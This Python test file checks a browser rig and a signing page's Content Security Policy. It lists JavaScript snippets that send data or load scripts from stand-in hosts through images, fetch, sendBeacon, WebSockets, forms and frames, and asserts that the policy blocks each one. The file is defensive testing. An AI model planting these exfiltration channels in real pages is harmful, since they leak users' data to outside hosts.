"""Ways in which a page sends something: the rig sees each of them, and the policy of the signing page stops each."""

# Each way has a host of its own, so that it is known by what arrives, be it a request or a wish to be connected, and by
# what the browser says that it blocked.
WAYS = {
    "image": "new Image().src = 'http://image.example/'",
    "secure-image": "new Image().src = 'https://secure-image.example/'",
    "fetch": "fetch('http://fetch.example/', { mode: 'no-cors' }).catch(() => 0)",
    "beacon": "navigator.sendBeacon('http://beacon.example/', 'words')",
    "style-sheet": "put('link', { rel: 'stylesheet', href: 'http://style-sheet.example/' })",
    "script": "put('script', { src: 'http://script.example/' })",
    "frame": "put('iframe', { src: 'http://frame.example/' })",
    "web-socket": "new WebSocket('ws://web-socket.example/')",
    "form": "put('form', { action: 'http://form.example/', target: put('iframe', { name: 'to' }).name }).submit()",
}
SET_UP = """(() => {
  window.put = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
  window.blocked = [];
  document.addEventListener('securitypolicyviolation', event => window.blocked.push(event.blockedURI));
})()"""


def sent(browser, server):
    """Sends in every way from the page that is open. Gives the ways that arrived, and those that were blocked."""
    browser.evaluate(SET_UP)
    for way in WAYS.values():
        # What a policy forbids may throw.
        browser.evaluate(f"(() => {{ try {{ {way}; }} catch {{}} }})()")

    def known():
        addresses = [host + path for host, path in server.requests], browser.evaluate("window.blocked")
        arrived, blocked = ({name for name in WAYS if any(f"{name}.example" in one for one in group)}
                            for group in addresses)
        return len(arrived | blocked) == len(WAYS) and (sorted(arrived), sorted(blocked))
    return browser.until(known, "end of every way of sending: each arrives or is blocked")


def rig_sees_leaks(report, browser, server, folder):
    path = folder / "leaks.html"
    path.write_text("<!doctype html><html lang=en><title>Leaks</title><body><p>A page that tells everything.</p>"
                    "<img src=http://outside.example/first.png></body></html>", encoding="utf-8")
    browser.open(path.as_uri())
    browser.until(server.outside, "request of a page with an image from outside")
    report.check(any("first.png" in url for url in browser.requests()),
                 f"{browser.name}: the rig sees a request in the browser", browser.requests())
    report.check(any("outside.example" in url for url in server.outside()),
                 f"{browser.name}: the rig counts an image from outside", server.requests)
    arrived, blocked = sent(browser, server)
    report.check(len(arrived) == len(WAYS) and not blocked,
                 f"{browser.name}: the rig counts {len(WAYS)} ways of sending", blocked)


def page_sends_nothing(report, browser, server, request):
    """A script that got into the page could not send in these ways: the policy of the page forbids them.

    No policy forbids WebRTC, or leading the reader to another address. The tests of the modules see that the page's own
    script does neither, and the policy lets no other script run.
    """
    browser.open(request.as_uri(), "!document.getElementById('page').hidden")
    server.requests.clear()
    arrived, blocked = sent(browser, server)
    report.check(not arrived and len(blocked) == len(WAYS),
                 f"{browser.name}: the policy of the page stops these ways of sending: {', '.join(WAYS)}", arrived)
